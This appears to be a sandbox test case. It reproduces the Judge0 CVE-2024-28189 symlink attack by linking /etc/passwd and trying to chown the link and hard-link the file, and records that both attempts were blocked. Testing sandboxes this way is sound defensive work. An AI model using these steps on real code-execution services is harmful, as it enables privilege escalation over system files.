# attack = "Judge0, CVE-2024-28189: has the service change the owner of what a link names"
# threats = [36]
# outcome = "OK"
# files = []
# skipped = { "attack.py" = "not a regular file", "main.py" = "not a regular file" }
# stdout = """
# own link: EPERM
# hard link: EXDEV
# """
# collect = ["*"]
import os

from attack import attempt, bait

for name in ("main.py", "attack.py"):
    os.unlink(name)
    os.symlink(bait("FILE"), name)
os.symlink("/etc/passwd", "/tmp/link")
attempt("own link", os.chown, "/tmp/link", os.getuid(), -1)
attempt("hard link", os.link, "/etc/passwd", "passwd")
